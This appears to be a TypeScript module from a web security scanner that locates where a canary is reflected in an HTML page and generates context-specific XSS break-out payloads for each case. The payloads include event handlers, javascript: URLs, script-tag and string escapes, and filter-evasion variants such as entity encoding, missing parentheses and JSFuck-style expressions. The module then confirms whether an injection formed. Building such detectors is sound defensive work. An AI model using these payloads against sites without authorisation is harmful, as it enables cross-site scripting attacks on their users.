// XSS support: where a canary lands in a parsed page (its reflection context), the payload that
// breaks out of each context, and the parse that confirms an injected element or handler formed.
import { Parser } from 'htmlparser2';

export type ReflectionContext =
  | { kind: 'text' }
  | { kind: 'rcdata'; tag: string }
  | { kind: 'script'; state: JsState }
  | { kind: 'attr'; tag: string; name: string; quote: '"' | "'" | null; urlStart: boolean }
  | { kind: 'comment' };

export type JsState = 'code' | 'sq' | 'dq' | 'tpl' | 'line-comment' | 'block-comment';

const RCDATA = new Set(['textarea', 'title', 'noscript', 'xmp', 'iframe', 'noembed', 'noframes', 'style']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'poster']);

/** The lexical state of a script at `at`: inside which kind of string or comment, or code. */
export function jsStateAt(src: string, at: number): JsState {
  let state: JsState = 'code';
  for (let i = 0; i < at && i < src.length; i++) {
    const c = src[i];
    const next = src[i + 1];
    switch (state) {
      case 'code':
        if (c === "'") state = 'sq';
        else if (c === '"') state = 'dq';
        else if (c === '`') state = 'tpl';
        else if (c === '/' && next === '/') state = 'line-comment';
        else if (c === '/' && next === '*') {
          state = 'block-comment';
          i++;
        }
        break;
      case 'sq':
      case 'dq':
      case 'tpl':
        if (c === '\\') i++;
        else if ((state === 'sq' && c === "'") || (state === 'dq' && c === '"') || (state === 'tpl' && c === '`')) state = 'code';
        else if (c === '\n' && state !== 'tpl') state = 'code';
        break;
      case 'line-comment':
        if (c === '\n') state = 'code';
        break;
      case 'block-comment':
        if (c === '*' && next === '/') {
          state = 'code';
          i++;
        }
        break;
    }
  }
  return state;
}

/** Every context in which `canary` appears in the parsed page. */
export function reflectionContexts(html: string, canary: string): ReflectionContext[] {
  const out: ReflectionContext[] = [];
  const stack: string[] = [];
  let tag = '';
  let scriptText = '';
  const parser = new Parser(
    {
      onopentagname: (name) => {
        tag = name;
      },
      onattribute: (name, value, quote) => {
        const at = value.indexOf(canary);
        if (at === -1) return;
        const q = quote === '"' || quote === "'" ? quote : null;
        out.push({ kind: 'attr', tag, name, quote: q, urlStart: URL_ATTRS.has(name) && at === 0 });
        if (name.startsWith('on')) out.push({ kind: 'script', state: jsStateAt(value, at) });
      },
      onopentag: (name) => {
        stack.push(name);
        if (name === 'script') scriptText = '';
      },
      ontext: (text) => {
        const parent = stack[stack.length - 1] ?? '';
        if (parent === 'script') {
          scriptText += text;
          return;
        }
        if (!text.includes(canary)) return;
        out.push(RCDATA.has(parent) ? { kind: 'rcdata', tag: parent } : { kind: 'text' });
      },
      onclosetag: (name) => {
        if (name === 'script') {
          for (let at = scriptText.indexOf(canary); at !== -1; at = scriptText.indexOf(canary, at + 1)) out.push({ kind: 'script', state: jsStateAt(scriptText, at) });
          scriptText = '';
        }
        const i = stack.lastIndexOf(name);
        if (i !== -1) stack.length = i;
      },
      oncomment: (data) => {
        if (data.includes(canary)) out.push({ kind: 'comment' });
      },
    },
    { decodeEntities: true },
  );
  parser.write(html);
  parser.end();
  const seen = new Set<string>();
  return out.filter((c) => {
    const k = JSON.stringify(c);
    if (seen.has(k)) return false;
    seen.add(k);
    return true;
  });
}

/** One payload and the family it belongs to (named in the finding when a filter made it the one). */
export interface XssPayload {
  payload: string;
  family: string;
}

/** The markers a payload carries: `t` a random tag name, `m` a random function name, `n` random digits. */
export interface XssMarkers {
  t: string;
  m: string;
  n: string;
}

/** What proves our code ran: a call of `m` with or without parentheses, or the letter-free `[n][+[]]`. */
export function calls(k: XssMarkers): string[] {
  return [`${k.m}(1)`, `${k.m}\`1\``, `[${k.n}][+[]]`];
}

const HANDLERS = (m: string): [string, string][] => [
  [`onmouseover=${m}(1)`, 'event handler'],
  [`onmouseover=${m}\`1\``, 'no-parentheses (tagged template)'],
  [`onmouseover=${m}&#40;1&#41;`, 'entity-encoded parentheses'],
  [`OnMouseOver=${m}(1)`, 'case variant'],
];

function markup(k: XssMarkers): XssPayload[] {
  const T = k.t.toUpperCase();
  return [
    ...HANDLERS(k.m).map(([h, family]) => ({ payload: `<${h.startsWith('On') ? T : k.t} ${h}>`, family })),
    { payload: `<svg onload=${k.m}(1)>`, family: 'SVG' },
    { payload: `<${k.t}/onmouseover=${k.m}(1)>`, family: 'no-space' },
  ];
}

function scriptString(q: string, k: XssMarkers): XssPayload[] {
  return [
    { payload: `${q}-${k.m}(1)-${q}`, family: 'script string break-out' },
    { payload: `</script>${markup(k)[0]!.payload}`, family: '</script> then event handler' },
    { payload: `${q}-${k.m}\`1\`-${q}`, family: 'no-parentheses (tagged template)' },
    { payload: `${q}-[${k.n}][+[]]-${q}`, family: 'no-letters (JSFuck-style)' },
    { payload: `</script>${markup(k)[1]!.payload}`, family: '</script> then no-parentheses (tagged template)' },
  ];
}

/**
 * Payloads for one context, the common ones first (an unfiltered point gets only the first two);
 * the check skips those the input filter stops.
 */
export function payloadsFor(ctx: ReflectionContext, k: XssMarkers): XssPayload[] {
  const { m, n } = k;
  switch (ctx.kind) {
    case 'text':
      return markup(k);
    case 'rcdata':
      return markup(k).map((p) => ({ payload: `</${ctx.tag}>${p.payload}`, family: p.family }));
    case 'comment':
      return markup(k).map((p) => ({ payload: `-->${p.payload}`, family: p.family }));
    case 'script':
      if (ctx.state === 'sq') return scriptString("'", k);
      if (ctx.state === 'dq') return scriptString('"', k);
      if (ctx.state === 'tpl')
        return [
          { payload: '`-' + m + '(1)-`', family: 'template break-out' },
          { payload: '${' + m + '(1)}', family: 'template substitution' },
          { payload: '${[' + n + '][+[]]}', family: 'no-letters (JSFuck-style)' },
        ];
      if (ctx.state === 'code')
        return [
          { payload: `;${m}(1);//`, family: 'script code' },
          { payload: `;${m}\`1\`;//`, family: 'no-parentheses (tagged template)' },
          { payload: `;[${n}][+[]];//`, family: 'no-letters (JSFuck-style)' },
        ];
      return [
        { payload: `\n${m}(1);//`, family: 'comment break-out' },
        { payload: `</script>${markup(k)[0]!.payload}`, family: '</script> then event handler' },
        { payload: `\n[${n}][+[]];//`, family: 'no-letters (JSFuck-style)' },
      ];
    case 'attr': {
      const out: XssPayload[] = [];
      if (ctx.urlStart) out.push({ payload: `javascript:${m}(1)`, family: 'javascript: URL' });
      // a leading value: after "class=" the parser skips spaces, so the handler must follow one
      if (ctx.quote === null) out.push(...HANDLERS(m).map(([h, family]) => ({ payload: `x ${h}`, family })));
      else {
        const q = ctx.quote;
        out.push({ payload: `${q} onmouseover=${m}(1) x=${q}`, family: 'event handler' });
        out.push({ payload: `${q}>${markup(k)[0]!.payload}`, family: 'tag break-out' });
        out.push(...HANDLERS(m).slice(1).map(([h, family]) => ({ payload: `${q} ${h} x=${q}`, family })));
        out.push({ payload: `${q}/onmouseover=${m}(1)/x=${q}`, family: 'no-space' });
      }
      // the variants of a URL come last: the break-outs above are the common case
      if (ctx.urlStart)
        out.push(
          { payload: `JavaScript:${m}(1)`, family: 'case variant' },
          { payload: `&#106;avascript:${m}(1)`, family: 'entity-encoded javascript:' },
          { payload: `javascript:${m}\`1\``, family: 'no-parentheses (tagged template)' },
        );
      return out;
    }
  }
}

export interface Formed {
  /** One line naming what formed, for the first line of the proof. */
  what: string;
}

/**
 * Parses the page and looks for what only a successful injection builds: an element with our tag
 * name, an event-handler attribute calling our function, a javascript: URL calling it, or our call
 * in a script outside any string or comment.
 */
export function confirmFormed(html: string, k: XssMarkers): Formed | null {
  let found: Formed | null = null;
  const t = k.t;
  const forms = calls(k);
  const stack: string[] = [];
  let scriptText = '';
  const parser = new Parser(
    {
      onopentag: (name, attribs) => {
        stack.push(name);
        if (name === 'script') scriptText = '';
        if (found) return;
        if (name === t) {
          const handler = Object.entries(attribs).find(([a, v]) => a.startsWith('on') && forms.some((c) => v.includes(c)));
          found = { what: `<${t}${handler ? ` ${handler[0]}=${handler[1]}` : ''}> element formed in the page` };
          return;
        }
        for (const [a, v] of Object.entries(attribs)) {
          if (a.startsWith('on') && forms.some((c) => jsCodeCalls(v, c))) {
            found = { what: `<${name} ${a}="${v}"> event handler formed in the page` };
            return;
          }
          if (URL_ATTRS.has(a) && /^\s*javascript:/i.test(v) && forms.some((c) => jsCodeCalls(v.replace(/^\s*javascript:/i, ''), c))) {
            found = { what: `<${name} ${a}="${v}"> javascript: URL formed in the page` };
            return;
          }
        }
      },
      ontext: (text) => {
        if (stack[stack.length - 1] === 'script') scriptText += text;
      },
      onclosetag: (name) => {
        const call = name === 'script' && !found ? forms.find((c) => jsCodeCalls(scriptText, c)) : undefined;
        if (call !== undefined) {
          const at = scriptText.indexOf(call);
          found = { what: `${scriptText.slice(Math.max(0, at - 40), at + call.length + 20).trim()}\n${call} runs as code in a <script> block (outside any string or comment)` };
        }
        if (name === 'script') scriptText = '';
        const i = stack.lastIndexOf(name);
        if (i !== -1) stack.length = i;
      },
    },
    { decodeEntities: true, lowerCaseTags: true, lowerCaseAttributeNames: true },
  );
  parser.write(html);
  parser.end();
  return found;
}

function jsCodeCalls(src: string, call: string): boolean {
  for (let at = src.indexOf(call); at !== -1; at = src.indexOf(call, at + 1)) if (jsStateAt(src, at) === 'code') return true;
  return false;
}

/** Only pages a browser renders as HTML can run injected markup. */
export function isHtmlResponse(headers: Record<string, string>): boolean {
  const ct = (headers['content-type'] ?? '').toLowerCase();
  return ct === '' || ct.includes('text/html') || ct.includes('application/xhtml');
}
